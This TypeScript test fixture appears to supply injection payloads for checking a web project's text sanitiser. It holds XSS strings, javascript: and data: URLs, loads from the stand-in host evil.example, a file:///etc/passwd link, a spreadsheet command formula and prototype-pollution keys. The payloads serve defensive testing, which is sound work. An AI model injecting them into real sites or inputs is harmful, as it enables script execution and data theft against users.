/**
 * Texts that would run, style, load or lead elsewhere where they were taken for markup or for an address: those of this project, and the Big List of Naughty
 * Strings. Whatever of them runs calls `pwned` or asks `evil.example`. Nothing here knows a widget.
 */
import naughtyList from 'big-list-of-naughty-strings/blns.json' with { type: 'json' };
import { cleanText } from '../../src/base/text.js';

/** Written for this project: what an attribute, a template, a text node, a link, a style, a file name or a language could take amiss. */
export const ownPayloads: readonly string[] = [
  '<script>pwned()</script>',
  '</textarea><script src=//evil.example/1></script>',
  '<script type=module>import "//evil.example/2"</script>',
  '<img src=x onerror=pwned()>',
  '<img src=//evil.example/3 srcset="//evil.example/4 2x">',
  '"><img src=x onerror=pwned()>',
  "'><svg onload=pwned()>",
  '` onfocus=pwned() autofocus `',
  '<svg><script href=data:text/javascript,pwned() /></svg>',
  '<svg><a xlink:href="javascript:pwned()"><text y=9>press</text></a></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwned()>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<iframe src=javascript:parent.pwned()></iframe>',
  '<object data=//evil.example/5></object><embed src=//evil.example/6>',
  '<link rel=stylesheet href=//evil.example/7.css>',
  '<style>@import "//evil.example/8.css"; *{display:none!important}</style>',
  '<base href=//evil.example/9/>',
  '<meta http-equiv=refresh content="0;url=//evil.example/10">',
  '<form action=//evil.example/11><button autofocus>Send</button></form>',
  '<input onfocus=pwned() autofocus>',
  '<button formaction=javascript:pwned()>Send</button>',
  '<details open ontoggle=pwned()>',
  '<video autoplay src=//evil.example/12 onerror=pwned()>',
  '<body onload=pwned()>',
  '<a href=javascript:pwned()>press</a>',
  '<a href="data:text/html,<script>pwned()</script>">press</a>',
  '<a href=//evil.example/13 ping=//evil.example/14>press</a>',
  '<template><img src=x onerror=pwned()></template>',
  '<slot name=x></slot><flywheel-school token=x api=//evil.example/>',
  '<div style="position:fixed;inset:0;background:url(//evil.example/15)">',
  '<x is=flywheel-check-in-card></x>',
  '<!--><img src=x onerror=pwned()>-->',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<![CDATA[<img src=x onerror=pwned()>]]>',
  'javascript:pwned()',
  'JaVaScRiPt&#58;pwned()//',
  'java\tscript:pwned()',
  'javascript://evil.example/%0Apwned()',
  'data:text/html,<script>pwned()</script>',
  'vbscript:pwned()',
  'blob:https://evil.example/16',
  'file:///etc/passwd',
  'https://evil.example/17',
  'https://school.example@evil.example/18',
  'https://evil.example/"onmouseover="pwned()',
  'http://evil.example/19?a=1&b=<script>pwned()</script>#<img src=x onerror=pwned()>',
  '//evil.example/20',
  '\\\\evil.example\\21',
  'www.evil.example/22',
  'mailto:a@evil.example?body=<script>pwned()</script>',
  'tel:1;phone-context=<img src=x onerror=pwned()>',
  '${pwned()}',
  '{{constructor.constructor("pwned()")()}}',
  '#{pwned()} <%= pwned() %> [[pwned()]] @{pwned()}',
  '<!--?lit$123456789$--><?lit$123456789$?>{{lit-123456789}}',
  '&lt;img src=x onerror=pwned()&gt;',
  '&#60;script&#62;pwned()&#60;/script&#62;',
  '\\u003Cscript\\u003Epwned()\\u003C/script\\u003E',
  '%3Cscript%3Epwned()%3C/script%3E',
  '＜script＞pwned()＜/script＞',
  '\u202E<gpj.exe onerror=pwned()>\u202C',
  '=HYPERLINK("https://evil.example/23","press")',
  '+cmd|"/C calc"!A1',
  '__proto__',
  'constructor',
  'x;color:red;background:url(https://evil.example/24)',
  'red;}*{background:url(//evil.example/25)}',
  '"; alert(1); pwned(); //',
  '\u2028pwned()\u2029',
  'BEGIN:VEVENT\nURL:javascript:pwned()\nEND:VEVENT',
];

/** As every field leaves them, without those of which nothing is left. */
const cleaned = (texts: readonly string[]): string[] => texts.map(cleanText).filter((text) => text.trim() !== '');
export const naughty: readonly string[] = cleaned(naughtyList);

/** As few texts of at most `most` characters as hold all that fit, each between others as somebody would have pasted them. */
export function textsOf(payloads: readonly string[], most: number, between = '\n'): string[] {
  const texts: string[] = [];
  for (const payload of cleaned(payloads)) {
    if (payload.length > most) continue;
    const last = texts.at(-1);
    if (last !== undefined && last.length + between.length + payload.length <= most) texts[texts.length - 1] = last + between + payload;
    else texts.push(payload);
  }
  return texts;
}

/** What stays the same however a text is broken into lines and nodes. */
export const bare = (text: string): string => text.replace(/\s+/g, '');
